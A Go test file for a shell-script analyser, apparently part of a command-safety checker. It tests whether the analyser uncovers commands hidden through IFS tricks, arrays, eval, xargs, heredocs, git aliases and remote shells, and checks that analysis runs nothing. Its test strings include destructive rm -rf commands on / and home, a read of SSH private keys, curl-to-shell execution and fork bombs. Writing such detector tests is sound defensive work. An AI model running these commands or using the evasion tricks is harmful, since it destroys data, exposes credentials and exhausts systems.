package shell

import (
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
)

// TestSemantics pins the shell semantics the analysis follows: each script
// must list the command in want.
func TestSemantics(t *testing.T) {
	tests := []struct {
		script string
		want   string
	}{
		{"rm${IFS}-rf${IFS}/", "rm: rm -rf /"},
		{"IFS=,; c=rm,-rf,/; $c", "rm: rm -rf /"},
		{"for d in ~ /; do rm -rf \"$d\"; done", "rm: rm -rf /"},
		{"for d in $HOME; do rm -rf $d/; done", "rm: rm -rf $HOME/"},
		{"set -- ~ /; for d; do rm -rf \"$d\"; done", "rm: rm -rf /"},
		{"a=(rm -rf /); \"${a[@]}\"", "rm: rm -rf /"},
		{"t=(build); t+=(/etc); rm -rf \"${t[@]}\"", "rm: rm -rf build /etc"},
		{"t[1]=/usr; rm -rf \"${t[1]}\"", "rm: rm -rf /usr"},
		{"set -- -rf /; rm \"$@\"", "rm: rm -rf /"},
		{"f() { rm -rf \"$1\"; }; f /", "rm: rm -rf /"},
		{"rm -rf \"${HOME%/}\"", "rm: rm -rf $HOME"},
		{"sh -c \"rm -rf $HOME\"", "rm: rm -rf $HOME <shell>"},
		{"bash -c \"cd $TARGET && rm -rf .\"", "rm: rm -rf . <shell>"},
		{"p=/etc/x; rm -rf ${p%/*}", "rm: rm -rf /etc"},
		{"read -r d <<< /usr; rm -rf \"$d\"", "rm: rm -rf /usr"},
		{"while read -r d; do rm -rf \"$d\"; done <<< /var", "rm: rm -rf /var"},
		{"printf -v d '%s' /opt; rm -rf \"$d\"", "rm: rm -rf /opt"},
		{"eval \"$(echo rm -rf /)\"", "rm: rm -rf / <eval>"},
		{"echo / | xargs rm -rf", "rm: rm -rf / [xargs]"},
		{"printf '%s\\n' a b | xargs -I{} rm -rf {}", "rm: rm -rf b [xargs]"},
		{"find ~ -maxdepth 0 | xargs rm -rf", "rm: rm -rf ~ [xargs]"},
		{"printf '%s\\0' /home/dev | xargs -0 rm -rf", "rm: rm -rf /home/dev [xargs]"},
		{"find ~ -type f -print0 | xargs -0 rm -f", "rm: rm -f ~/* [xargs]"},
		{"ls -d /srv/* | xargs rm -rf", "rm: rm -rf /srv/* [xargs]"},
		{"printf '%s\\0' 'import os; os.system(1)' | xargs -0 python3 -c", "python3: python3 -c import os; os.system(1) [xargs]"},
		{"printf 'a b:/srv' | xargs -d: rm -rf", "rm: rm -rf a b /srv [xargs]"},
		{"printf '%s\\0' \"$HOME\"/* | xargs -0 rm -rf", "rm: rm -rf $HOME/* [xargs]"},
		{"echo $HOME | xargs rm -rf", "rm: rm -rf $HOME [xargs]"},
		{"printf 'a b\\n/srv' | xargs -d '\\n' rm -rf", "rm: rm -rf a b /srv [xargs]"},
		{"find ~/.ssh -name 'id_*' -exec cat {} \\;", "cat: cat ~/.ssh/id_* <find-exec>"},
		{"find /etc -exec sh -c 'rm -rf \"$1\"' _ {} \\;", "rm: rm -rf /etc <shell>"},
		{"echo /etc | xargs sh -c 'rm -rf \"$0\"'", "rm: rm -rf /etc <shell>"},
		{"cat <<'EOF' | bash\nrm -rf ~\nEOF", "rm: rm -rf ~ <shell>"},
		{"source <(echo 'rm -rf ~')", "rm: rm -rf ~ <shell>"},
		{"echo 'rm -rf ~' > x.sh; bash ./x.sh", "rm: rm -rf ~ <shell>"},
		{"ssh -p 22 host 'rm -rf ~'", "rm: rm -rf ~ <shell>"},
		{"tmux send-keys -t 0 'rm -rf ~' Enter", "rm: rm -rf ~ <shell>"},
		{"parallel rm -rf ::: /srv", "rm: rm -rf /srv <shell>"},
		{"echo 'rm -rf /' | at now", "rm: rm -rf / <shell>"},
		{"git -c alias.x='!rm -rf ~' x", "rm: rm -rf ~ <shell>"},
		{"git config --global core.pager 'sh -c \"rm -rf ~\"'", "rm: rm -rf ~ <shell>"},
		{"git config set --global alias.st '!rm -rf ~'", "rm: rm -rf ~ <shell>"},
		{"git config --file .git/config core.editor 'rm -rf ~'", "rm: rm -rf ~ <shell>"},
		{"flock -w 5 /tmp/l rm -rf /", "rm: rm -rf / [flock]"},
		{"systemd-run --user --scope rm -rf ~", "rm: rm -rf ~ [systemd-run]"},
		{"uv run rm -rf ~", "rm: rm -rf ~ [uv]"},
		{"nix develop .#ci -c rm -rf /", "rm: rm -rf / [nix]"},
	}
	for _, tt := range tests {
		t.Run(tt.script, func(t *testing.T) {
			a := Analyze(tt.script, DefaultLimits)
			if got := describe(a); !slices.Contains(got, tt.want) {
				t.Errorf("commands %q do not include %q", got, tt.want)
			}
		})
	}
}

// TestCodeFlags pins which commands are marked as running code the
// analysis cannot read, or as starting copies of themselves without bound.
func TestCodeFlags(t *testing.T) {
	tests := []struct {
		script             string
		dynamic, unbounded bool
	}{
		{"eval \"$X\"", true, false},
		{"sh -c \"$(curl -s https://example.com)\"", true, false},
		{"$(curl -s https://example.com)", true, false},
		{"curl -s https://example.com | xargs -I{} sh -c '{}'", true, false},
		{"eval 'ls'", false, false},
		{"ls | xargs -n1 echo", false, false},
		{":(){ :|:& };:", false, true},
		{"function x { x & x; }; x", false, true},
		{"while true; do sleep 1 & done", false, true},
		{"while true; do sleep 1 & wait; done", false, false},
		{"f() { f; }; f", false, false},
		{"f() { echo; }; f & f | f", false, false},
	}
	for _, tt := range tests {
		t.Run(tt.script, func(t *testing.T) {
			a := Analyze(tt.script, DefaultLimits)
			var dynamic, unbounded bool
			for _, c := range a.Commands {
				dynamic = dynamic || c.DynamicCode
				unbounded = unbounded || c.Unbounded
			}
			if dynamic != tt.dynamic || unbounded != tt.unbounded {
				t.Errorf("dynamic %v, unbounded %v; want %v, %v (%q)", dynamic, unbounded, tt.dynamic, tt.unbounded, describe(a))
			}
		})
	}
}

// TestNothingRuns checks that analysing commands that would write files,
// whatever construct runs them, neither runs them nor touches the file
// system.
func TestNothingRuns(t *testing.T) {
	dir := t.TempDir()
	mark := filepath.Join(dir, "ran")
	for _, s := range []string{
		"touch " + mark,
		"echo x > " + mark,
		"for f in " + mark + "; do touch \"$f\"; done",
		"f() { touch \"$1\"; }; f " + mark,
		"echo " + mark + " | xargs touch",
		"find " + dir + " -maxdepth 0 -exec touch " + mark + " \\;",
		"eval 'touch " + mark + "'",
		"bash -c 'touch " + mark + "'",
		"bash <<< 'touch " + mark + "'",
		"echo 'touch " + mark + "' > " + filepath.Join(dir, "s.sh") + "; sh " + filepath.Join(dir, "s.sh"),
		"source " + filepath.Join(dir, "s.sh"),
		"ssh localhost touch " + mark,
		"git -c alias.x='!touch " + mark + "' x",
		"read -r x < " + mark + "; mapfile -t y < " + mark,
		":(){ :|:& };:",
		"while true; do touch " + mark + " & done",
	} {
		Analyze(s, DefaultLimits)
		AnalyzeArgv([]string{"bash", "-c", s}, DefaultLimits)
	}
	entries, err := os.ReadDir(dir)
	if err != nil {
		t.Fatal(err)
	}
	if len(entries) != 0 {
		t.Errorf("analysis touched the file system: %v", entries)
	}
}

// TestSemanticsBounded checks that loops, functions and xargs cannot make
// the analysis grow without bound.
func TestSemanticsBounded(t *testing.T) {
	var b strings.Builder
	for i := range 200 {
		fmt.Fprintf(&b, "x%d ", i)
	}
	items := b.String()
	for _, s := range []string{
		"for a in " + items + "; do for b in " + items + "; do echo $a$b; done; done",
		"f0() { :; }; f1() { f0; f0; }; f2() { f1; f1; }; f3() { f2; f2; }; f4() { f3; f3; }; f5() { f4; f4; }; f6() { f5; f5; }; f7() { f6; f6; }; f8() { f7; f7; }; f9() { f8; f8; }; f10() { f9; f9; }; f10",
		"printf '%s\\n' " + items + " | xargs -I{} echo {}",
	} {
		a := Analyze(s, DefaultLimits)
		if len(a.Commands) > DefaultLimits.MaxCommands {
			t.Errorf("%d commands listed, limit %d", len(a.Commands), DefaultLimits.MaxCommands)
		}
		if a.Incomplete == "" {
			t.Errorf("%.40q…: not reported incomplete", s)
		}
	}
}

// TestRunnerStops: an option after which a runner runs nothing leaves no
// command behind (uvx --generate-shell-completion bash prints a script,
// it runs no bash); the same runner still runs its command otherwise.
func TestRunnerStops(t *testing.T) {
	for _, tt := range []struct {
		script string
		runs   string // a command listed, or "" for none but the runner
	}{
		{`eval "$(uvx --generate-shell-completion bash)"`, ""},
		{"uvx --help", ""},
		{"uvx --from ruff ruff check .", "ruff"},
		{"uvx bash -c 'rm -rf ~'", "rm"},
	} {
		t.Run(tt.script, func(t *testing.T) {
			var names []string
			for _, c := range Analyze(tt.script, DefaultLimits).Commands {
				if c.Name != "uvx" && c.Name != "eval" {
					names = append(names, c.Name)
				}
			}
			if (tt.runs == "" && len(names) > 0) || (tt.runs != "" && !slices.Contains(names, tt.runs)) {
				t.Errorf("commands %q, want %q", names, tt.runs)
			}
		})
	}
}
